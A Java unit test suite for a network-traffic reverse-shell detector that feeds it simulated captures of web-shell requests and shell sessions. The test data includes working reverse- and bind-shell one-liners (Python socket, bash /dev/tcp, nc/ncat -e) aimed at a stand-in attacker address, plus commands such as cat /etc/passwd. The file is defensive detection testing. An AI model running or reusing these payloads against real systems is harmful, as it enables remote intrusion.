package org.nta.detect.shell;

import static org.assertj.core.api.Assertions.assertThat;
import static org.nta.detect.shell.Ev.chunk;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.nta.detect.Finding;
import org.nta.detect.FindingType;
import org.nta.detect.Phase;
import org.nta.detect.Severity;
import org.nta.event.ConnInfo;
import org.nta.event.Event;
import org.nta.event.TcpSession;

class ReverseShellDetectorTest {
    private static final String PY = "python3%20-c%20%27import%20socket%2Csubprocess%2Cos%3Bs%3Dsocket.socket()%3B"
            + "s.connect((%2210.0.0.66%22%2C4422))%3Bos.dup2(s.fileno()%2C0)%3Bsubprocess.call(%5B%22/bin/sh%22%2C%22-i%22%5D)%27";

    private static List<Finding> run(Event... events) {
        ReverseShellDetector d = new ReverseShellDetector(ShellConfig.DEFAULTS);
        for (Event e : events) d.onEvent(e);
        return d.finish();
    }

    /** The victim 10.0.0.5 connects out to the attacker's listener 10.0.0.66:4422 and runs sh. */
    private static TcpSession shell(int stream, long f) {
        ConnInfo c = Ev.conn(stream, "10.0.0.5", "10.0.0.66", 4422);
        return Ev.session(c, chunk(true, f, "/bin/sh: 0: can't access tty; job control turned off\n$ "),
                chunk(false, f + 5, "id\n"), chunk(true, f + 6, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n$ "),
                chunk(false, f + 10, "cat /etc/passwd\n"), chunk(true, f + 11, "root:x:0:0:root:/root:/bin/bash\n$ "),
                chunk(false, f + 15, "exit\n"));
    }

    @Test
    void payloadThenConnectionThenTranscript() {
        var trigger = Ev.get(Ev.web(1739), 100, "/uploads/x.php?cmd=" + PY);
        List<Finding> fs = run(trigger, shell(1740, 102));
        assertThat(fs).hasSize(1);
        Finding f = fs.get(0);
        assertThat(f.type()).isEqualTo(FindingType.REVERSE_SHELL);
        assertThat(f.phase()).isEqualTo(Phase.COMMAND_AND_CONTROL);
        assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(f.succeeded()).isTrue();
        assertThat(f.attacker()).isEqualTo("10.0.0.66");
        assertThat(f.victim()).isEqualTo("10.0.0.5");
        assertThat(f.techniques()).contains("T1059.006", "T1059.004");
        assertThat(f.firstFrame()).isEqualTo(100);
        assertThat(f.lastFrame()).isEqualTo(118);
        assertThat(f.streams()).containsExactly(1739, 1740);
        assertThat(f.filter()).isEqualTo("frame.number == 100 || tcp.stream == 1740");
        assertThat(f.evidence()).containsEntry("port", 4422).containsEntry("address", "10.0.0.66").containsEntry("direction", "reverse")
                .containsEntry("payload_kind", "python socket").containsEntry("trigger_frame", 100L).containsEntry("trigger_stream", 1739)
                .containsEntry("trigger_where", "query parameter cmd").containsEntry("stream", 1740).containsEntry("connected", true)
                .containsEntry("commands", List.of("id", "cat /etc/passwd", "exit"))
                .containsEntry("command_frames", List.of(107L, 112L, 117L))
                .containsEntry("prompt", "$ ");
        assertThat(f.evidence().get("payload").toString()).startsWith("python3 -c 'import socket");
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> rows = (List<Map<String, Object>>) f.evidence().get("transcript");
        assertThat(rows.get(0)).containsEntry("command", "id").containsEntry("frame", 107L)
                .containsEntry("output", "uid=33(www-data) gid=33(www-data) groups=33(www-data)")
                .containsEntry("time", Text.iso(Ev.t(107)));
        assertThat(f.evidence().get("shell_user")).isEqualTo(Map.of("name", "www-data", "uid", 33, "text", "uid=33(www-data)"));
    }

    @Test
    void aPayloadSentAgainOpensASecondShell() {
        var first = Ev.get(Ev.web(10), 100, "/uploads/x.php?cmd=" + PY);
        var retry = Ev.get(Ev.web(12), 150, "/uploads/x.php?cmd=" + PY);
        var third = Ev.get(Ev.web(14), 400, "/uploads/x.php?cmd=" + PY); // listener gone: nothing connects
        List<Finding> fs = run(first, shell(11, 102), retry, shell(13, 152), third);
        assertThat(fs).hasSize(3);
        assertThat(fs).extracting(f -> f.evidence().get("trigger_frame")).containsExactly(100L, 150L, 400L);
        assertThat(fs).extracting(f -> f.evidence().get("stream")).containsExactly(11, 13, null);
        assertThat(fs.get(2).evidence()).containsEntry("connected", false);
    }

    @Test
    void connectionsBeforeThePayloadOrToAnotherPortDoNotMatch() {
        var trigger = Ev.get(Ev.web(1739), 100, "/uploads/x.php?cmd=" + PY);
        TcpSession before = shell(1700, 50);
        ConnInfo other = Ev.conn(1800, "10.0.0.5", "10.0.0.66", 9999);
        // 20 s later (frame N is N ms after the start): long enough to say the payload's connection never came
        TcpSession elsewhere = Ev.session(other, chunk(false, 20120, "hello\n"), chunk(true, 20121, "hi\n"));
        List<Finding> fs = run(before, trigger, elsewhere);
        Finding payload = fs.stream().filter(f -> f.evidence().get("trigger_frame") != null).findFirst().orElseThrow();
        assertThat(payload.evidence()).containsEntry("connected", false).containsEntry("commands", List.of());
        assertThat(payload.severity()).isEqualTo(Severity.HIGH);
        assertThat(payload.succeeded()).isFalse();
        // the earlier shell is reported on its own, without a payload
        Finding alone = fs.stream().filter(f -> f.evidence().get("trigger_frame") == null).findFirst().orElseThrow();
        assertThat(alone.streams()).containsExactly(1700);
        assertThat(alone.evidence().get("confidence").toString()).startsWith("medium");
    }

    @Test
    void payloadWithoutAnyConnectionAtTheEndOfTheCaptureIsUnknown() {
        var trigger = Ev.get(Ev.web(5), 100, "/cgi-bin/x?c=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.66%2F9001%200%3E%261");
        Finding f = run(trigger).get(0);
        assertThat(f.succeeded()).isNull();
        assertThat(f.attacker()).isEqualTo("10.0.0.66");
        assertThat(f.firstFrame()).isEqualTo(100);
        assertThat(f.lastFrame()).isEqualTo(100);
        assertThat(f.filter()).isEqualTo("frame.number == 100");
        assertThat(f.evidence()).containsEntry("port", 9001).containsEntry("payload_kind", "bash /dev/tcp")
                .containsEntry("commands", List.of());
    }

    @Test
    void bindShellTheAttackerConnectsTo() {
        var trigger = Ev.get(Ev.web(5), 100, "/uploads/s.php?c=nc%20-lvnp%205555%20-e%20/bin/sh");
        ConnInfo c = Ev.conn(6, "10.0.0.66", "10.0.0.5", 5555);
        TcpSession s = Ev.session(c, chunk(true, 110, "id\n"), chunk(false, 111, "uid=33(www-data) gid=33(www-data)\n"),
                chunk(true, 112, "uname -a\n"), chunk(false, 113, "Linux portal 6.1.0 #1 SMP x86_64 GNU/Linux\n"));
        Finding f = run(trigger, s).get(0);
        assertThat(f.evidence()).containsEntry("direction", "bind").containsEntry("port", 5555).containsEntry("stream", 6)
                .containsEntry("commands", List.of("id", "uname -a"));
        assertThat(f.attacker()).isEqualTo("10.0.0.66");
        assertThat(f.victim()).isEqualTo("10.0.0.5");
    }

    @Test
    void interactiveShellWithoutPayloadOverIpv6() {
        ConnInfo c = Ev.conn(1052, "fd77:6b0:1::45", "fd77:6b0:1::66", 443);
        TcpSession s = Ev.session(c, chunk(false, 6356, "id\n"), chunk(true, 6357, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
                chunk(false, 6360, "pwd\n"), chunk(true, 6361, "/var/www/html/uploads\n"), chunk(false, 6372, "exit\n"));
        Finding f = run(s).get(0);
        assertThat(f.attacker()).isEqualTo("fd77:6b0:1::66");
        assertThat(f.victim()).isEqualTo("fd77:6b0:1::45");
        assertThat(f.evidence()).containsEntry("direction", "reverse").containsEntry("port", 443).containsEntry("payload", null)
                .containsEntry("commands", List.of("id", "pwd", "exit")).containsEntry("command_frames", List.of(6356L, 6360L, 6372L));
        assertThat(f.filter()).isEqualTo("tcp.stream == 1052");
        assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(f.summary()).contains("[fd77:6b0:1::66]:443");
    }

    @Test
    void windowsCmdShellWithoutPayload() {
        ConnInfo c = Ev.conn(30, "10.0.0.7", "10.0.0.66", 4444);
        TcpSession s = Ev.session(c,
                chunk(true, 1, "Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\inetpub\\wwwroot>"),
                chunk(false, 2, "whoami\r\n"), chunk(true, 3, "whoami\r\nnt authority\\system\r\n\r\nC:\\inetpub\\wwwroot>"),
                chunk(false, 4, "ipconfig\r\n"), chunk(true, 5, "ipconfig\r\n\r\nWindows IP Configuration\r\n\r\nC:\\inetpub\\wwwroot>"));
        Finding f = run(s).get(0);
        assertThat(f.evidence()).containsEntry("commands", List.of("whoami", "ipconfig")).containsEntry("prompt", "C:\\inetpub\\wwwroot>");
        assertThat(f.techniques()).containsExactly("T1059.003");
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> rows = (List<Map<String, Object>>) f.evidence().get("transcript");
        assertThat(rows.get(0)).containsEntry("output", "nt authority\\system");
        assertThat(f.attacker()).isEqualTo("10.0.0.66");
    }

    @Test
    void payloadAddressInAnotherSpellingStillMatches() {
        var trigger = Ev.get(Ev.conn(7, "fd77:6b0:1::66", "fd77:6b0:1::45", 80), 100,
                "/u/t.php?x=" + java.util.Base64.getEncoder().encodeToString(Ev.bytes("ncat fd77:06b0:0001:0:0:0:0:66 443 -e /bin/sh")));
        ConnInfo c = Ev.conn(8, "fd77:6b0:1::45", "fd77:6b0:1::66", 443);
        TcpSession s = Ev.session(c, chunk(false, 110, "id\n"), chunk(true, 111, "uid=33(www-data) gid=33(www-data)\n"));
        List<Finding> fs = run(trigger, s);
        assertThat(fs).hasSize(1);
        assertThat(fs.get(0).evidence()).containsEntry("stream", 8).containsEntry("trigger_where", "query parameter x (base64)");
    }

    @Test
    void textProtocolsSshAndTlsAreNotShells() {
        ConnInfo smtp = Ev.conn(1, "10.0.0.9", "10.0.0.25", 25);
        TcpSession mail = Ev.session(smtp, chunk(false, 1, "220 mx ESMTP\r\n"), chunk(true, 2, "EHLO me\r\n"), chunk(false, 3, "250 ok\r\n"),
                chunk(true, 4, "QUIT\r\n"));
        ConnInfo ssh = Ev.conn(2, "10.0.0.9", "10.0.0.22", 22);
        TcpSession sshS = Ev.session(ssh, chunk(false, 5, "SSH-2.0-OpenSSH_9.2\r\n"), chunk(true, 6, "SSH-2.0-OpenSSH_9.2\r\n"),
                chunk(true, 7, "id\nls\nexit\n"));
        ConnInfo tls = Ev.conn(3, "10.0.0.9", "10.0.0.44", 443);
        TcpSession tlsS = new TcpSession(tls, 8, 9, Ev.t(9), List.of(new TcpSession.Chunk(true, 8, Ev.t(8), new byte[] {0x16, 0x03, 0x01, 0, 5, 1, 2, 3, 4, 5})),
                10, 0, false);
        assertThat(run(mail, sshS, tlsS)).isEmpty();
    }
}
